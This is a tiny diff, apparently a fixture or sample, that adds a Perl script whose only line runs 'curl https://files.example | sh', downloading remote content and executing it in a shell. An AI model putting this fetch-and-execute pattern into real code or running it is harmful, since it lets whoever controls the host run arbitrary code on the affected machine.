@@ -1,0 +1,2 @@
+#!/usr/bin/perl -w
+system("curl https://files.example | sh");
